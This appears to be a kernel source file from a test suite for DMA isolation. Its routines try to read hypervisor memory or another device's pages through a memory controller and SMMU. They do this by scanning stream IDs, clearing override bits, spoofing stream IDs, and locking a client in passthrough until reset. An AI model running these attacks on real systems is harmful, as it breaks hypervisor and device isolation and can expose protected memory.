// SPDX-License-Identifier: GPL-2.0-only
/*
 * The identity of a DMA: its memory client, the stream ID that the memory controller
 * assigns, the stream ID of the device itself.
 *
 * The target is a hypervisor page, by its physical address; with another device's stream
 * ID, it is a page that only that device may access.
 */
#include <linux/device.h>
#include <linux/iommu.h>
#include <linux/platform_device.h>
#include <linux/random.h>
#include <linux/slab.h>

#include "attack.h"

#define NR_CLIENTS	0x120
#define NR_SIDS		0x100
#define MC_SECURITY_OVERRIDE	BIT(8)

static bool ready(struct outcome *o)
{
	if (!bm || !hyp_spare_page()) {
		is_na(o, "there is no bus master or no hypervisor memory");
		return false;
	}
	if (host_may_read(hyp_spare_page())) {
		is_na(o, "the host's CPU can access EL2's memory, too");
		return false;
	}
	return true;
}

static bool has_client(struct outcome *o)
{
	if (mc_sid_base && bm_info.client_read != BM_AS_DESCRIBED)
		return true;
	is_na(o, "the machine has no memory controller");
	return false;
}

/* Use each client, without changing registers. */
static void attack_clients(struct outcome *o, unsigned long data, const char *arg)
{
	u32 client, word, through = 0, first = 0;

	if (!ready(o) || !has_client(o))
		return;
	for (client = 0; client < NR_CLIENTS; client++) {
		if (!dma_as(client, BM_AS_DESCRIBED, hyp_spare_page(), false, &word, sizeof(word)))
			continue;
		if (!through++)
			first = client;
	}
	if (through)
		is_open(o, "%u clients read a hypervisor page, the first is %#x", through, first);
	else
		is_stopped(o, "none of %u clients read a hypervisor page", NR_CLIENTS);
}

/* Let the device present each stream ID. */
static void attack_own_sid(struct outcome *o, unsigned long data, const char *arg)
{
	u32 sid, word;

	if (!ready(o))
		return;
	for (sid = 0; sid < NR_SIDS; sid++) {
		if (dma_as(BM_AS_DESCRIBED, sid, hyp_spare_page(), false, &word, sizeof(word))) {
			is_open(o, "a hypervisor page was read with stream ID %#x", sid);
			return;
		}
	}
	if (dma_as(BM_AS_DESCRIBED, 0x7fff, hyp_spare_page(), false, &word, sizeof(word)) ||
	    dma_as(BM_AS_DESCRIBED, 0xffff, hyp_spare_page(), false, &word, sizeof(word)))
		is_open(o, "a hypervisor page was read with one of the largest stream IDs");
	else
		is_stopped(o, "no hypervisor page was read with any of %u stream IDs", NR_SIDS + 2);
}

/* Disable the override, and let the device present the passthrough stream ID. */
static void attack_override(struct outcome *o, unsigned long data, const char *arg)
{
	phys_addr_t reg;
	u32 old, word;
	int ret;

	if (!ready(o) || !has_client(o))
		return;
	reg = mc_sid_base + MC_SECURITY(bm_info.client_read);
	if (read32(reg, &old))
		old = MC_SECURITY_OVERRIDE;
	ret = write32(reg, old & ~MC_SECURITY_OVERRIDE);
	if (dma_as(BM_AS_DESCRIBED, MC_SID_PASSTHROUGH, hyp_spare_page(), false, &word,
		   sizeof(word)))
		is_open(o, "a hypervisor page was read without the override");
	else if (ret)
		is_stopped(o, "the write was refused (%d), and DMA was aborted", ret);
	else
		is_stopped(o, "DMA was aborted");
	if (!ret)
		write32(reg, old);
}

/* A stream ID that no device has: unmatched streams must fault. */
#define UNUSED_SID	0x6e

static void attack_unused_sid(struct outcome *o, unsigned long data, const char *arg)
{
	u32 old = bm_info.sid, word;
	phys_addr_t reg;
	int ret;

	if (!ready(o) || !has_client(o))
		return;
	reg = mc_sid_base + MC_OVERRIDE(bm_info.client_read);
	read32(reg, &old);
	ret = write32(reg, UNUSED_SID);
	if (dma_as(BM_AS_DESCRIBED, BM_AS_DESCRIBED, hyp_spare_page(), false, &word, sizeof(word)))
		is_open(o, "a hypervisor page was read with stream ID %#x", UNUSED_SID);
	else if (ret)
		is_stopped(o, "the write was refused (%d), and DMA was aborted", ret);
	else
		is_stopped(o, "DMA was aborted");
	if (!ret)
		write32(reg, old);
}

/*
 * Put a client into passthrough and lock it until the next reset. This cannot be undone,
 * so the client is one that no other attack needs.
 */
#define MC_SECURITY_LOCK	BIT(16)

static void attack_lock(struct outcome *o, unsigned long data, const char *arg)
{
	struct bm_xfer x = {
		.client = BM_AS_DESCRIBED,
		.sid = BM_AS_DESCRIBED,
		.addr = hyp_spare_page(),
		.len = 8,
	};
	struct bm *other = bm_get(1);
	struct bm_info info;
	phys_addr_t base;
	u64 word;
	int ret;

	if (!ready(o) || !has_client(o))
		return;
	if (!other) {
		is_na(o, "there is only one bus master");
		return;
	}
	bm_describe(other, &info);
	base = mc_sid_base;
	ret = write32(base + MC_OVERRIDE(info.client_read), MC_SID_PASSTHROUGH);
	ret = write32(base + MC_SECURITY(info.client_read),
		      MC_SECURITY_OVERRIDE | MC_SECURITY_LOCK) ?: ret;
	bm_transfer(other, &x, &word);
	if ((x.status & BM_S_DONE) && !(x.status & BM_S_ERROR))
		is_open(o, "a hypervisor page was read, and remains readable until reset");
	else if (ret)
		is_stopped(o, "the writes were refused (%d), and DMA was aborted", ret);
	else
		is_stopped(o, "DMA was aborted");
}

/* Another device behind the same SMMU, with a domain of its own */
struct neighbour {
	struct device *dev;
	u32 sid;
};

static int find_neighbour(struct device *dev, void *arg)
{
	struct iommu_fwspec *mine = dev_iommu_fwspec_get(bm_device(bm));
	struct iommu_fwspec *its = dev_iommu_fwspec_get(dev);
	struct iommu_domain *domain = iommu_get_domain_for_dev(dev);
	struct neighbour *n = arg;

	if (!its || !mine || its->num_ids != 1 || its->iommu_fwnode != mine->iommu_fwnode ||
	    !domain || !(domain->type & __IOMMU_DOMAIN_PAGING) || domain == bm_domain())
		return 0;
	n->dev = dev;
	n->sid = its->ids[0] & 0xff;
	return 1;
}

static void attack_other_sid(struct outcome *o, unsigned long data, const char *arg)
{
	struct neighbour n = {};
	struct iommu_domain *domain;
	struct page *page;
	phys_addr_t reg;
	u64 secret = get_random_u64(), got = 0;
	u32 old = bm_info.sid;
	int ret;

	if (!bm || !has_client(o)) {
		is_na(o, "there is no bus master or no memory controller");
		return;
	}
	if (!bus_for_each_dev(&platform_bus_type, NULL, &n, find_neighbour)) {
		is_na(o, "no other device is behind the same SMMU");
		return;
	}
	page = alloc_page(GFP_KERNEL);
	if (!page)
		return;
	*(u64 *)page_address(page) = secret;
	domain = iommu_get_domain_for_dev(n.dev);
	ret = iommu_map(domain, ATTACK_IOVA, page_to_phys(page), PAGE_SIZE, IOMMU_READ, GFP_KERNEL);
	if (ret) {
		is_broken(o, "the page cannot be mapped for %s: %d", dev_name(n.dev), ret);
		goto out;
	}

	reg = mc_sid_base + MC_OVERRIDE(bm_info.client_read);
	read32(reg, &old);
	ret = write32(reg, n.sid);
	dma(ATTACK_IOVA, false, &got, sizeof(got));
	if (!ret)
		write32(reg, old);
	if (got == secret)
		is_open(o, "a page was read that only %s may access", dev_name(n.dev));
	else if (ret)
		is_stopped(o, "the write was refused (%d), and DMA did not reach the page of %s",
			   ret, dev_name(n.dev));
	else
		is_stopped(o, "DMA did not reach the page of %s", dev_name(n.dev));
	iommu_unmap(domain, ATTACK_IOVA, PAGE_SIZE);
out:
	__free_page(page);
}

const struct attack client_attacks[] = {
	{ "client-any", "read a hypervisor page by each memory client",
	  attack_clients },
	{ "client-override", "disable a client's override, and bypass the SMMU",
	  attack_override },
	{ "client-other-sid", "give a client another device's stream ID", attack_other_sid },
	{ "client-unused-sid", "give a client a stream ID that no device has", attack_unused_sid },
	{ "client-lock", "put a client into passthrough, and lock it", attack_lock },
	{ "own-sid", "read a hypervisor page with each stream ID of the device's choice", attack_own_sid },
	{ }
};
